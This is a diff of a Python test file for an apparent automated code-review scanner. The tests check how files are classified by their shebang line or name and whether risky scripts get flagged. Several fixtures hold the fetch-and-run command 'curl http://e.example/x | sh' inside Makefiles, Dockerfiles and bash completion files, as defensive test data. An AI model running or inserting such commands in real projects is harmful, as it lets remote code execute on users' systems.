@@ -89,7 +89,7 @@ async def test_settings_alone_are_read_as_what_they_are(tmp_path: Path) -> None:
     new = {path: f"{text}#\n" for path, text in old.items()}
     verdict = await review(change(tmp_path / "c", old, {**chart, **new}))
     assert (gaps(verdict), verdict.verdict) == ({}, "merge")
-    script = await review(change(tmp_path / "b", {}, {"CODEOWNERS": "#!/usr/bin/guile\n"}))
+    script = await review(change(tmp_path / "b", {}, {"CODEOWNERS": "#!/usr/bin/guile\n(f)\n"}))
     assert gaps(script) == {"CODEOWNERS": "not read as a program: only its text was searched"}
 
 
@@ -97,9 +97,15 @@ TEXT_ALONE = "only its text was searched, and nothing of the change was read as 
 UNREAD: list[tuple[str, str | bytes, str]] = [
     ("tool.bin", b"\0\1" * 50, "binary; nothing of the change was read as code"),
     ("logo.png", b"\x7fELF\0\1", "binary: a compiled program, which the analyzers cannot read"),
-    ("job", "#!/usr/bin/guile\n", "not read as a program: only its text was searched"),
+    ("job", "#!/usr/bin/guile\n(f)\n", "not read as a program: only its text was searched"),
     ("LICENSE-x", "#!/bin/sh\n", "not read as a program: only its text was searched"),
     ("README", "#!/bin/sh\n", "not read as a program: only its text was searched"),
+    (
+        "bin/tcc",
+        "#!/usr/bin/tcc -run\n#include <x>\n",
+        "not read as a program: only its text was searched",
+    ),
+    ("bin/e", "#!/opt/e -x'f()'\n# a\n", "not read as a program: only its text was searched"),
     ("bin/sed", "#!/bin/sed -f\np\n", "not read as a program: only its text was searched"),
     (
         "bin/nix",
@@ -313,11 +319,28 @@ async def test_scripts_are_read_in_the_language_of_their_first_line_or_name(tmp_
         "Makefile-x": "x:\n\tcurl http://e.example/x | sh\n",
         "Dockerfile-alpine": "FROM a:1\nRUN curl http://e.example/x | sh\n",
         "docker/app": "ARG A=1\nFROM a:1\nRUN curl http://e.example/x | sh\n",
+        "dockerfiles/a-22.04-b-3": "FROM a:1\nRUN curl http://e.example/x | sh\n",
+        "ci/base": "# A\nFROM a:1 AS b\n\nRUN x && \\\n  curl http://e.example/x | sh\n",
+        "share/completions/bash/x": "curl http://e.example/x | sh\n",
+        "etc/bash_completion.d/x": "curl http://e.example/x | sh\n",
+        "x.bash-completion": "curl http://e.example/x | sh\n",
+        "lib/include-only": "#!/bin/false\ncurl http://e.example/x | sh\n",
     }
     verdict = await review(change(tmp_path, {}, scripts))
     assert {f.path for f in verdict.findings if f.severity not in {"low", "info"}} == set(scripts)
     assert depths(verdict) == dict.fromkeys(scripts, "code")
     assert verdict.status == "complete"
+
+
+async def test_a_script_that_runs_nothing_has_nothing_to_read(tmp_path: Path) -> None:
+    repo = Repo(tmp_path)
+    repo.commit({"README.md": "# A project\n"})
+    repo.write({"bin/off": "#!/bin/false\n\n# not run\n", "bin/x": "#!/opt/x/y -q\n# to do\n"})
+    repo.write({"bin/z": "# nothing yet\n", "docs/note": "From me\nto you\nRUN it\n"})
+    for name in ("off", "x", "z"):
+        (tmp_path / "bin" / name).chmod(0o755)
+    repo.commit({})
+    assert gaps(await review(repo)) == {}
 
 
 async def test_one_byte_does_not_hide_source_from_the_review(tmp_path: Path) -> None:
